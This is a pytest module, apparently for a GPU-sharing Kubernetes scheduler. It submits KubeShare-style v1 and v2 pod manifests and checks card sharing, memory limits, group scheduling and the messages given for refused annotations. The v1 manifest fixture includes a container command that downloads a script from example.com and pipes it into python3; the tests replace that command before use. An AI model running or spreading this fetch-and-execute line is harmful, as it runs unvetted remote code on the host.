"""KubeShare's users bring their manifests, and change the scheduler's name alone.

The manifests are in the words of its two versions' documents. Images are the rig's own, since no other registry is
reached from it.
"""

from __future__ import annotations

from typing import Any, Final

import msgspec.yaml
import pytest

from partage_plugins.vocabulary import GPU, BudgetName, grantee_of
from rig.client.pods import Pod
from rig.identity.people import TEAM
from support.chain_stage import OURS, Chain
from support.isolation_stage import IMAGE, MIB, SERVING, ask, seen

NO_MEMORY: Final = "cuMemAlloc_v2 2"
V1: Final = """
apiVersion: v1
kind: Pod
metadata:
  name: pod1
  annotations:
    "kubeshare/gpu_request": "0.4"
    "kubeshare/gpu_limit": "1.0"
    "kubeshare/gpu_mem": "3145728000"
spec:
  schedulerName: kubeshare-scheduler
  terminationGracePeriodSeconds: 0
  containers:
  - name: main
    image: tensorflow/tensorflow:1.15.2-gpu-py3
    command: ["sh", "-c", "curl -s https://example.com/script.py | python3 -"]
"""
V2: Final = """
apiVersion: v1
kind: Pod
metadata:
  name: mnist
  labels:
    "sharedgpu/gpu_request": "0.5"
    "sharedgpu/gpu_limit": "1.0"
spec:
  schedulerName: kubeshare-scheduler
  restartPolicy: Never
  containers:
    - name: main
      image: mnist:test
      command: ["sh", "-c", "sleep infinity"]
      imagePullPolicy: Always
"""


def submit(chain: Chain, text: str, name: str, containers: tuple[str, ...] = ("main",), /, **said: str) -> Pod:
    """The manifest by another name, with other values; keys are without their domains."""
    manifest: dict[str, Any] = msgspec.yaml.decode(text)
    meta, spec = manifest["metadata"], manifest["spec"]
    meta |= {"name": name, "namespace": TEAM}
    words, domain = ("annotations", "kubeshare/") if "annotations" in meta else ("labels", "sharedgpu/")
    meta[words] |= {domain + key: value for key, value in said.items()}
    spec["schedulerName"] = OURS
    (container,) = spec["containers"]
    container |= {"image": IMAGE, "command": list(SERVING), "imagePullPolicy": "IfNotPresent"}
    spec["containers"] = [{**container, "name": each} for each in containers]
    return chain.rig.cluster.pods.create(TEAM, manifest)


def test_the_walk_through_of_version_1_fills_a_card_exactly_and_then_takes_the_next(chain: Chain) -> None:
    pods = [submit(chain, V1, "pod1"), submit(chain, V1, "pod2", gpu_request="0.6"), submit(chain, V1, "pod3")]
    for pod in pods:
        pod.wait_running()
    one, two, three = map(chain.grant, pods)
    assert one.card == two.card != three.card
    assert [each.share_milli for each in (one, two, three)] == [400, 600, 400]
    assert seen(pods[0])["total"] == 3000
    assert ask(pods[0], "take 2900") == NO_MEMORY, "the card's own context counts too"


def test_the_containers_of_a_pod_use_one_part_of_one_card(chain: Chain) -> None:
    pod = submit(chain, V1, "both", ("train", "evaluate"), gpu_mem=str(4000 * MIB))
    pod.wait_running()
    granted = chain.allocation(pod).of(GPU)
    assert set(granted) == {grantee_of(BudgetName("pod"))}

    def take(container: str, mib: int) -> str:
        return pod.exec(SERVING[0], "ask", f"take {mib}", container=container).strip()

    assert take("train", 2000) == "took 2000"
    assert take("evaluate", 2000) == NO_MEMORY


@pytest.mark.extended("the dialect has its conformance rows, and limits are tested by real/isolation")
def test_the_pod_of_version_2_has_the_memory_of_its_part(chain: Chain) -> None:
    pod = submit(chain, V2, "mnist")
    pod.wait_running()
    grant = chain.grant(pod)
    assert (grant.share_milli, grant.limit_milli) == (500, 1000)
    assert seen(pod)["total"] == grant.memory_bytes // MIB
    assert pod.exec("/bin/sh", "-c", "echo $POD_NAME").strip() == f"{TEAM}/mnist"


@pytest.mark.extended("the dialect has its conformance rows, and groups are tested by unit/scheduler")
def test_a_group_of_version_2_is_placed_once_enough_of_it_is_there(chain: Chain) -> None:
    group = {"group_name": "a", "group_headcount": "3", "group_threshold": "0.6"}
    first, later = submit(chain, V2, "member-0", **group), submit(chain, V2, "no-member")
    later.wait_running()
    first.refresh()
    assert first.node is None
    for pod in (submit(chain, V2, "member-1", **group), first):
        pod.wait_running()


def test_who_writes_what_kubeshare_refuses_is_told_so_on_the_pod(chain: Chain) -> None:
    wrong = submit(chain, V1, "wrong", gpu_request="0.5", gpu_limit="0.4")
    why = chain.wait_why(wrong, "kubeshare/gpu_request")
    assert "kubeshare/gpu_request is '0.5'; allowed: a number from 0 to kubeshare/gpu_limit, which is 0.4" in why
    assert "sharedgpu/gpu_limit is 'NaN'" in chain.wait_why(submit(chain, V2, "nan", gpu_limit="NaN"), "gpu_limit")


def test_two_dialects_in_one_pod_are_refused_on_the_pod(chain: Chain) -> None:
    manifest = V1.replace(
        "metadata:\n", 'metadata:\n  labels: {"sharedgpu/gpu_limit": "1.0", "sharedgpu/gpu_mem": "1"}\n'
    )
    why = chain.wait_why(submit(chain, manifest, "mixed"), "two dialects")
    assert "kubeshare-v1-dialect and kubeshare-v2-dialect" in why
